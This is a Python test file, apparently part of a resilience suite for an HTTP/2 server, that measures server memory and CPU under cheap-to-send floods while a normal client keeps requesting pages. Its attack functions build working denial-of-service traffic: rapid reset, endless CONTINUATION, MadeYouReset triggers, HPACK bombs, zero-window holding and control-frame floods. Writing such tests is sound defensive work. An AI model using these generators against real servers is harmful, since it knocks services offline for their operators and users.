"""T-23 to T-28: HTTP/2 frames that cost the sender little. Memory and CPU of the server are held against the bytes sent.

Each flood runs on connections of its own while a well-behaved client asks for pages on another; all its pages must come.
"""

import select
import ssl
import struct
import time

from bench import Connection, Meter, Witness, answer, eventually, item
from h2raw import (
    CODES, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS, PADDED, PING,
    PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, literal)

KIB, MIB = 1024, 1024 * 1024
# What one connection may cost: a window of request bodies and the largest head, twice over.
BUDGET = 2 * (MIB + 64 * KIB)
PATIENCE = 12.0


def frame(kind, flags, stream, payload=b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Attack:
    """A connection that pours frames and notes what the server says: GOAWAY, resets, the end."""

    def __init__(self, target, deaf=False, settings=()):
        self.connection = Connection(target).handshake()
        if settings:
            self.connection.settings(*settings)
        self.socket, self.deaf = self.connection.socket, deaf
        self.socket.setblocking(False)
        self.sent = self.frames = self.resets = 0
        self.goaway, self.closed = None, False
        self.buffer = bytearray()

    @property
    def over(self) -> bool:
        return self.closed or self.goaway is not None

    def read(self, wait=0.0) -> None:
        while not self.closed and (wait == 0.0 or select.select([self.socket], [], [], wait)[0]):
            try:
                data = self.socket.recv(1 << 18)
            except (BlockingIOError, ssl.SSLWantReadError):
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self.parse()
            wait = 0.0

    def parse(self) -> None:
        at = 0
        while len(self.buffer) >= at + 9:
            length = int.from_bytes(self.buffer[at:at + 3], "big")
            if len(self.buffer) < at + 9 + length:
                break
            kind = self.buffer[at + 3]
            if kind == RST_STREAM:
                self.resets += 1
            elif kind == 7 and self.goaway is None:
                self.goaway = int.from_bytes(self.buffer[at + 13:at + 17], "big")
            at += 9 + length
        del self.buffer[:at]

    def pour(self, data, frames=1, until=None) -> bool:
        """Sends all of it unless the server ends the connection, or does not read for a second."""
        view, patience = memoryview(data), time.monotonic() + 1
        while view and not self.over:
            if not self.deaf:
                self.read()
            try:
                count = self.socket.send(view)
                self.sent += count
                view, patience = view[count:], time.monotonic() + 1
            except (BlockingIOError, ssl.SSLWantWriteError):
                if time.monotonic() > patience:
                    return False
                select.select([self.socket], [self.socket], [], 0.05)
            except OSError:
                self.read()
                self.closed = True
        self.frames += frames
        return not self.over and (until is None or time.monotonic() < until)

    def close(self) -> None:
        self.connection.close()

    def __str__(self):
        end = f"GOAWAY {CODES[self.goaway]}" if self.goaway is not None else "closed" if self.closed else "not ended"
        return f"{end} after {size(self.sent)}"


def size(count) -> str:
    return f"{count / MIB:.1f} MB" if count >= MIB else f"{count / KIB:.1f} kB" if count >= KIB else f"{count} bytes"


def endless(attack, chunk, frames, limit) -> None:
    """The same bytes again and again."""
    until = time.monotonic() + PATIENCE
    while attack.sent < limit and attack.pour(chunk, frames, until):
        pass


class Flood:
    """What surrounds an attack: the stopwatch, the witness and the judgement."""

    def __init__(self, t):
        self.t, self.world = t, t.world
        self.start()

    def start(self):
        """A server that no earlier flood has filled: memory that was once taken is rarely given back."""
        self.world.fresh_server()
        self.target = self.world.target()
        # A server under its first requests grows for good reasons.
        with Witness(self.target, pause=0) as warm:
            eventually("two hundred pages", lambda: warm.served > 200 or warm.problems)

    def run(self, name, attack, connections=1, must_end=False, held=0, honest=0, **how):
        """`attack(one)` pours; `must_end`: Seaway has to put an end to it; `held`: so many answers
        may be held back, which costs memory that the attacker did not send; `honest`: bytes that the same would cost
        without what makes it an attack."""
        pids = self.world.server().pids()
        with Witness(self.target) as witness:
            meter = Meter(pids)
            attacks = [Attack(self.target, **how) for _ in range(connections)]
            began = time.monotonic()
            for one in attacks:
                attack(one)
            for one in attacks:
                one.deaf = False
                if must_end and not one.over:
                    limit = time.monotonic() + 3
                    while not one.over and time.monotonic() < limit:
                        one.read(0.1)
            served = witness.served
            eventually("another page", lambda: witness.served > served or witness.problems, 15)
            grown, spent, took = meter.growth(), meter.spent(), time.monotonic() - began
            for one in attacks:
                one.close()
        sent = sum(one.sent for one in attacks)
        ours = self.world.name == "seaway"
        self.t.check(meter.alive() and self.world.server().pids() == pids, f"{name}: the server's process ended")
        self.t.check(not witness.problems and witness.served > 1,
                     f"{name}: others were not served: {witness.problems or witness.served}")
        budget = held * 64 * KIB or BUDGET
        self.t.check(grown - honest <= budget * connections, f"{name}: memory grew by {size(grown)} for {connections} connections")
        self.grown = grown
        self.t.check(held or grown - honest <= max(100 * sent, 64 * KIB),
                     f"{name}: memory grew by {size(grown)} for {size(sent)} sent")
        if must_end and ours:
            self.t.check(all(one.over for one in attacks), f"{name}: went on: {attacks[0]}")
        each = f"{connections} × " if connections > 1 else ""
        self.t.figure(name, f"{each}{attacks[0]}; {sum(one.frames for one in attacks):,} frames, {size(sent)} in {took:.1f} s; "
                      f"memory +{size(grown)}, CPU {spent * 1000:.0f} ms; "
                      f"others: {witness.served} pages, slowest {witness.slowest * 1000:.0f} ms")
        return attacks


def request_blocks(attack, path="/"):
    """A full block that fills the peer's table, and the short one that refers to it."""
    fields = [(n, path if n == ":path" else v) for n, v in attack.connection.fields()]
    return attack.connection.block(fields), attack.connection.block(fields)


def rapid_reset(count, batch=100):
    def attack(one):
        first, again = request_blocks(one)
        until, stream = time.monotonic() + PATIENCE, 1
        while stream < 2 * count:
            out = bytearray()
            for _ in range(batch):
                out += frame(HEADERS, END_HEADERS | END_STREAM, stream, first if stream == 1 else again)
                out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            if not one.pour(out, 2 * batch, until):
                return
    return attack


@item("T-23", "rapid reset: streams opened and reset at once, by the ten thousand", any_server=True)
def rapid_resets(t):
    flood, origin = Flood(t), t.world.origin
    mark, origin.busiest = origin.mark(), 0
    try:
        origin.script = lambda request, sock: (time.sleep(0.02), origin.plain(request, sock))[1]
        flood.run("HEADERS and RST_STREAM", rapid_reset(40_000), must_end=True)
        flood.run("the same on ten connections", rapid_reset(10_000), connections=10, must_end=True)
    finally:
        origin.script = origin.plain
    t.check(origin.busiest <= 11 * 256, f"the origin had {origin.busiest} requests at once")
    t.figure("requests that reached the origin", f"{len(origin.since(mark)):,}, at most {origin.busiest} at once")


@item("T-24", "CONTINUATION without end: large, empty and of one octet", any_server=True)
def continuations(t):
    flood = Flood(t)
    large = literal(0x00, "x-large", "a" * 16_000)

    def attack(payload, opening=b""):
        def pour(one):
            one.pour(frame(HEADERS, END_STREAM, 1, opening or one.connection.block(one.connection.fields())))
            chunk = frame(CONTINUATION, 0, 1, payload)
            endless(one, chunk * max(1, 65536 // len(chunk)), max(1, 65536 // len(chunk)), 64 * MIB)
        return pour

    flood.run("large fields", attack(large), must_end=True)
    flood.run("empty frames", attack(b""), must_end=True)
    flood.run("fields of a few octets", attack(literal(0x00, "a", "b") * 2000), must_end=True)
    flood.run("one field that never ends", attack(b"a" * 16_000, b"\x00\x7f\xff\xff\xff\xff\x07"), must_end=True)
    flood.run("on ten connections", attack(large), connections=10, must_end=True)


def made_to_reset(trigger, count):
    """Opens streams and makes the server reset each of them."""
    def attack(one):
        first, again = request_blocks(one, "/slow")
        until, stream = time.monotonic() + PATIENCE, 1
        while stream < 2 * count:
            out = bytearray()
            for _ in range(50):
                out += trigger(stream, first if stream == 1 else again)
                stream += 2
            if not one.pour(out, 100, until):
                return
    return attack


TRIGGERS = {
    "a window update of 0": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(WINDOW_UPDATE, 0, s, bytes(4)),
    "a window above 2^31-1": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(WINDOW_UPDATE, 0, s,
            b"\x7f\xff\xff\xff"),
    "PRIORITY of 4 octets": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(PRIORITY, 0, s, bytes(4)),
    "PRIORITY on itself": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(PRIORITY, 0, s,
            struct.pack(">IB", s, 1)),
    "DATA after the end": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(DATA, 0, s, b"x"),
    "HEADERS after the end": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b) + frame(HEADERS,
            END_HEADERS | END_STREAM, s, b"\x00\x01a\x01b"),
    "trailers that do not end": lambda s, b: frame(HEADERS, END_HEADERS, s, b) + frame(HEADERS, END_HEADERS, s,
                                                                                       b"\x00\x01a\x01b"),
    "pseudo-headers in trailers": lambda s, b: frame(HEADERS, END_HEADERS, s, b) + frame(HEADERS, END_HEADERS | END_STREAM, s,
                                                                                         b"\x82"),
    "a length that is not met": lambda s, b: frame(HEADERS, END_HEADERS, s,
                                                   b + literal(0x00, "content-length", "5")) + frame(DATA, END_STREAM, s, b"x"),
    "an upper case name": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b + literal(0x00, "X-Up", "1")),
    "a connection field": lambda s, b: frame(HEADERS, END_HEADERS | END_STREAM, s, b + literal(0x00, "connection", "close")),
}


@item("T-25", "MadeYouReset: streams that the server has to reset, by every known trigger", any_server=True)
def made_you_reset(t):
    flood, origin = Flood(t), t.world.origin
    try:
        origin.script = lambda request, sock: (time.sleep(0.1 if request.target == "/slow" else 0),
                                               origin.plain(request, sock))[1]
        for name, trigger in TRIGGERS.items():
            mark, origin.busiest = origin.mark(), 0
            flood.run(name, made_to_reset(trigger, 20_000), must_end=True)
            eventually("the origin to be idle", lambda: origin.busy <= 1, 20)
            slow = sum(r.target == "/slow" for r in origin.since(mark))
            t.check(origin.busiest <= 400, f"{name}: the origin worked on {origin.busiest} requests at once")
            t.figures[name] += f"; {slow:,} requests reached the origin, at most {origin.busiest} at once"
    finally:
        origin.script = origin.plain


def bomb(entry, references, streams):
    """One table entry, then blocks of references to it of one octet each. Nothing else is put into the table."""
    def attack(one):
        request = b"".join(literal(0x10, n, v) for n, v in one.connection.fields())
        one.pour(frame(HEADERS, END_HEADERS | END_STREAM, 1, request + entry))
        block = request + b"\xbe" * references
        parts = [block[i:i + 16_000] for i in range(0, len(block), 16_000)]
        until = time.monotonic() + PATIENCE
        for stream in range(3, 2 * streams + 3, 2):
            out = frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), stream, parts[0])
            for index, part in enumerate(parts[1:], 2):
                out += frame(CONTINUATION, END_HEADERS if index == len(parts) else 0, stream, part)
            if not one.pour(out, len(parts), until):
                return
    return attack


@item("T-26", "HPACK bombs: an octet that stands for 4 kB, and fields that weigh more than their octets", any_server=True)
def bombs(t):
    flood = Flood(t)
    unread = {"settings": [(INITIAL_WINDOW_SIZE, 0)]}
    big = literal(0x40, "x-big", "a" * 3900)
    # A stream that waits costs something whatever its head is; what the bomb adds is held against its bytes.
    honest = {}
    for connections in (1, 10):
        flood.run(f"plain requests, unread, on {connections}", bomb(b"", 0, 100), connections, honest=1 << 40, **unread)
        honest[connections] = flood.grown
        flood.start()
    for name, attack in (("an entry of 4 kB, 16,000 times in a block", bomb(big, 15_000, 100)),
                         ("the same over CONTINUATION", bomb(big, 100_000, 20)),
                         ("an entry of 4 kB, 7 times in a block", bomb(big, 7, 100)),
                         ("an entry of nothing, 15,000 times", bomb(literal(0x40, "a", ""), 15_000, 100)),
                         ("an entry of nothing, 90 times", bomb(literal(0x40, "a", ""), 90, 100)),
                         ("crumbs of a cookie", bomb(literal(0x40, "cookie", ""), 15_000, 100)),
                         ("crumbs of a cookie, few in each block", bomb(literal(0x40, "cookie", "a" * 300), 80, 100))):
        flood.run(name, attack, honest=honest[1], **unread)
        flood.start()
        flood.run(f"{name}, on ten connections", attack, connections=10, honest=honest[10], **unread)
        flood.start()


@item("T-27", "answers held behind a window of zero are timed out and cost no more than the budget", any_server=True)
def zero_windows(t):
    origin, page = t.world.origin, b"p" * MIB
    ours = t.world.name == "seaway"
    try:
        origin.script = lambda request, sock: answer(body=page) if request.target == "/large" else origin.plain(request, sock)
        if ours:
            t.world.drop_server()
            t.world.flags = ("--body-timeout", "1s", "--idle-timeout", "1s")
        flood = Flood(t)

        def hold():
            def attack(one):
                first, again = request_blocks(one, "/large")
                limit = min(100, one.connection.peer_settings.get(MAX_CONCURRENT_STREAMS, 100))
                for number in range(limit):
                    one.pour(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, again if number else first))
                until = time.monotonic() + 6
                while not one.over and one.resets < limit and time.monotonic() < until:
                    one.read(0.2)
                one.limit = limit
            return attack

        for name, settings in (("a window of 0", 0), ("a window of 1", 1), ("a window of 1,000", 1000)):
            flood.start()
            for one in flood.run(name, hold(), held=100, settings=[(INITIAL_WINDOW_SIZE, settings)]):
                if ours:
                    t.check(one.over or one.resets >= one.limit,
                            f"{name}: {one.resets} of {one.limit} streams were ended in 6 s")
                t.figures[name] += f"; {one.resets} of {one.limit} streams reset"
    finally:
        t.world.flags = ()
        t.world.drop_server()
        origin.script = origin.plain


@item("T-28", "floods of PING, SETTINGS, empty DATA and HEADERS, PRIORITY, WINDOW_UPDATE, unknown and late frames",
      any_server=True)
def control_frames(t):
    flood = Flood(t)

    def pour(chunk, opening=b"", limit=4 * MIB):
        def attack(one):
            block = one.connection.block(one.connection.fields())
            if opening:
                one.pour(opening.replace(b"BLOCK", block)
                         if b"BLOCK" in opening else frame(HEADERS, END_HEADERS, 1, block) + opening.removeprefix(b"open"))
            endless(one, chunk * (8192 // len(chunk) + 1), 8192 // len(chunk) + 1, limit)
        return attack

    table = struct.pack(">HI", 1, 0) + struct.pack(">HI", 1, 4096)
    for name, attack, how in (
            ("PING", pour(frame(PING, 0, 0, bytes(8))), {}),
            ("PING, the answers unread", pour(frame(PING, 0, 0, bytes(8)), limit=32 * MIB), {"deaf": True}),
            ("answers to PING", pour(frame(PING, 1, 0, bytes(8))), {}),
            ("SETTINGS", pour(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))), {}),
            ("SETTINGS, the answers unread", pour(frame(SETTINGS, 0, 0), limit=32 * MIB), {"deaf": True}),
            ("SETTINGS of 2,000 values", pour(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 2000)), {}),
            ("SETTINGS that shrink and grow the table", pour(frame(SETTINGS, 0, 0, table)), {}),
            ("SETTINGS acknowledgements", pour(frame(SETTINGS, 1, 0)), {}),
            ("empty DATA", pour(frame(DATA, 0, 1), b"open"), {}),
            ("DATA of nothing but padding", pour(frame(DATA, PADDED, 1, b"\x00"), b"open"), {}),
            ("PRIORITY", pour(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7))), {}),
            ("WINDOW_UPDATE of the connection", pour(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))), {}),
            ("WINDOW_UPDATE of a stream", pour(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), b"open"), {}),
            ("frames of unknown type", pour(frame(0x42, 0, 0, b"x")), {}),
            ("RST_STREAM of a closed stream", pour(frame(RST_STREAM, 0, 1, bytes(4)),
                                                   b"open" + frame(RST_STREAM, 0, 1, bytes(4))), {}),
            ("DATA of a closed stream", pour(frame(DATA, 0, 1, b"x"), b"open" + frame(RST_STREAM, 0, 1, bytes(4))), {})):
        flood.run(name, attack, must_end=True, **how)
